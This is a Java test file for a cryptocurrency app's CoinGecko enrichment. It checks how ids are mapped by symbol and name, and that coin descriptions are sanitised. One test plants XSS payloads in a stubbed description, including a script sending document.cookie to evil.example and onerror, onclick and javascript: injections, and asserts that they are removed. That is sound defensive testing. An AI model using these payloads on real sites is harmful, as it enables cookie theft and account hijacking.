package io.cryptotalks.cryptorates.coingecko;

import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import io.cryptotalks.cryptorates.MarketApis;
import io.cryptotalks.cryptorates.TestCoins;
import io.cryptotalks.cryptorates.WithMarketApis;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** CoinGecko ids by symbol (ambiguity settled by name, or left alone), and sanitised descriptions, against the stub. */
class CoinGeckoEnrichmentTests extends WithMarketApis {

    private static final JsonMapper MAPPER = JsonMapper.builder().build();

    @Autowired
    CoinGeckoEnrichment enrichment;

    @Autowired
    JdbcClient jdbc;

    @Test
    void idsAreGivenByUniqueSymbolOrByNameAndNeverTwice() {
        String tag = tag();
        String alpha = TestCoins.insert(jdbc, tag + "A", "Alpha " + tag, 0);
        String alphaTwin = TestCoins.insert(jdbc, tag + "A", "Alpha Twin " + tag, 0);
        String beta = TestCoins.insert(jdbc, tag + "B", "Beta " + tag, 0);
        String gamma = TestCoins.insert(jdbc, tag + "C", "Gamma " + tag, 0);
        serveList(Map.of(
                "alpha-" + tag, new String[] {tag + "A", "Alpha " + tag},
                "beta-" + tag, new String[] {tag + "B", "Beta " + tag},
                "bridged-beta-" + tag, new String[] {tag + "B", "Bridged Beta"},
                "gamma-one-" + tag, new String[] {tag + "C", "Gamma One"},
                "gamma-two-" + tag, new String[] {tag + "C", "Gamma Two"}));

        CoinGeckoEnrichment.Outcome outcome = enrichment.enrich();

        assertThat(outcome.problem()).isNull();
        assertThat(symbolId(beta)).isEqualTo("beta-" + tag);
        assertThat(symbolId(gamma)).as("ambiguous, no name matches").isNull();
        // one CoinGecko id, two coins with its symbol: one of them gets it, the other stays unmapped
        assertThat(new String[] {symbolId(alpha), symbolId(alphaTwin)}).containsExactlyInAnyOrder("alpha-" + tag, null);
        MarketApis.server()
                .verify(getRequestedFor(urlPathEqualTo(MarketApis.GECKO_LIST))
                        .withHeader("x-cg-demo-api-key", equalTo("test-coingecko-key")));
    }

    @Test
    void theDescriptionIsFetchedOnceAndSanitised() {
        String tag = tag();
        String coin = TestCoins.insert(jdbc, tag + "D", "Delta " + tag, 0);
        String missing = TestCoins.insert(jdbc, tag + "E", "Epsilon " + tag, 0);
        serveList(Map.of("delta-" + tag, new String[] {tag + "D", "Delta " + tag}, "epsilon-" + tag, new String[] {
            tag + "E", "Epsilon " + tag
        }));
        ObjectNode body = (ObjectNode) MAPPER.readTree(MarketApis.fixture("coingecko-coin.json"));
        String recorded = body.path("description").path("en").asString();
        ((ObjectNode) body.path("description"))
                .put(
                        "en",
                        recorded
                                + "<script>document.location='https://evil.example/'+document.cookie</script>"
                                + "<img src=x onerror=\"alert('xss')\"><p onclick=\"steal()\">Safe <b>bold</b> text</p>"
                                + "<a href=\"javascript:alert(1)\">click</a>");
        MarketApis.server()
                .stubFor(get(urlPathEqualTo("/api/v3/coins/delta-" + tag))
                        .willReturn(okJson(MAPPER.writeValueAsString(body))));

        enrichment.enrich();

        String description = jdbc.sql("select description from cryptocurrencies where uuid = ?")
                .param(coin)
                .query(String.class)
                .single();
        assertThat(description)
                .startsWith("Bitcoin is the first successful internet money")
                .contains(
                        "<a href=\"https://www.coingecko.com/en/coins/bitcoin\" rel=\"nofollow\">the CoinGecko guide</a>")
                .contains("<p>Safe <b>bold</b> text</p>")
                .doesNotContain("<script", "document.cookie", "<img", "onerror", "onclick", "javascript:");
        MarketApis.server()
                .verify(getRequestedFor(urlPathEqualTo("/api/v3/coins/delta-" + tag))
                        .withQueryParam("localization", equalTo("false"))
                        .withQueryParam("tickers", equalTo("false"))
                        .withQueryParam("market_data", equalTo("false"))
                        .withQueryParam("community_data", equalTo("false"))
                        .withQueryParam("developer_data", equalTo("false"))
                        .withHeader("x-cg-demo-api-key", equalTo("test-coingecko-key")));
        // CoinGecko does not know the second id: asked once, recorded, not asked again
        assertThat(jdbc.sql("select description_fetched_at is not null from cryptocurrencies where uuid = ?")
                        .param(missing)
                        .query(Boolean.class)
                        .single())
                .isTrue();

        enrichment.enrich();

        MarketApis.server().verify(1, getRequestedFor(urlPathEqualTo("/api/v3/coins/delta-" + tag)));
        MarketApis.server().verify(1, getRequestedFor(urlPathEqualTo("/api/v3/coins/epsilon-" + tag)));
    }

    private void serveList(Map<String, String[]> extra) {
        ArrayNode list = (ArrayNode) MAPPER.readTree(MarketApis.fixture("coingecko-coins-list.json"));
        extra.forEach((id, symbolAndName) -> list.addObject()
                .put("id", id)
                .put("symbol", symbolAndName[0].toLowerCase(Locale.ROOT))
                .put("name", symbolAndName[1]));
        MarketApis.server()
                .stubFor(
                        get(urlPathEqualTo(MarketApis.GECKO_LIST)).willReturn(okJson(MAPPER.writeValueAsString(list))));
    }

    private String symbolId(String uuid) {
        return jdbc.sql("select symbol_id from cryptocurrencies where uuid = ?")
                .param(uuid)
                .query(String.class)
                .list()
                .get(0);
    }

    private static String tag() {
        return "Q"
                + UUID.randomUUID().toString().replace("-", "").substring(0, 6).toUpperCase(Locale.ROOT);
    }
}
